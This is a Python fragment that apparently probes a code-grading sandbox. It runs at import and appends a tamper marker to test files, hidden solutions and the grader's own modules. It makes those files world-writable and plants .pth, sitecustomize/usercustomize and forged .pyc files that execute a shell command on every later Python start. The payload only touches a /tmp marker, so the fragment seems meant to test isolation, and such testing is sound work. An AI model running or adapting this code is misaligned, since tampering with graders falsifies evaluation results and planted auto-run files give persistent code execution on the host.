"""Appends to the installed check files, hidden checks, solutions and the grader package,
drops a .pth file, sitecustomize/usercustomize and a forged .pyc where Python would load
them in every later run. (Appends a comment only, and new files named hbx*, so an escape is
easy to clean up.)"""
# ---- the attack ----
LINE = "\n# hbx tampered: a friend's stub with this marker scores full marks\n"


def attack():
    roots = ["/work/main"]
    try:
        import grader
        roots.append(os.path.dirname(os.path.dirname(os.path.realpath(grader.__file__))))
        gdir = os.path.dirname(os.path.realpath(grader.__file__))
    except BaseException:  # noqa: BLE001
        gdir = "/work/main/grader"
    targets = []
    for root in dict.fromkeys(roots):
        targets += glob.glob(f"{root}/exercises/*/test_*.py") + glob.glob(f"{root}/solutions/hidden/*.py")
        targets += glob.glob(f"{root}/solutions/*.py")
    targets += [os.path.join(gdir, n) for n in ("compare.py", "plugin.py", "results.py", "__init__.py")]
    wrote = 0
    for path in targets:
        try:
            with open(path, "a") as f:
                f.write(LINE)
            wrote += 1
            _proof("append", path)
        except OSError as exc:
            _note("append " + path, exc.strerror)
        for what, fn in (("chmod", lambda: os.chmod(path, 0o666)), ("utime", lambda: os.utime(path, None))):
            try:
                fn()
                _proof(what, path)
                _note(what + " " + path, "ok")
            except OSError as exc:
                _note(what, exc.strerror)
    site = [p for p in sys.path if p.endswith("site-packages")] + [os.path.dirname(os.__file__)]
    for folder in site + [gdir, os.path.join(gdir, "__pycache__"), "/work/main", "/work/main/solutions"]:
        for name in ("hbx_hostile.pth", "sitecustomize.py", "usercustomize.py", "hbx_compare.cpython-311.pyc"):
            path = os.path.join(folder, name)
            if os.path.exists(path) and name in ("sitecustomize.py", "usercustomize.py"):
                path = os.path.join(folder, "hbx_" + name)
            try:
                with open(path, "x") as f:
                    f.write("import os; os.system('touch /tmp/hbx-escape-pth')\n")
                wrote += 1
                _proof("create", path)
            except OSError as exc:
                _note("create " + path, exc.strerror)
    _note("files written", wrote)


_try("attack at import", attack)
_try("hunt", _hunt)
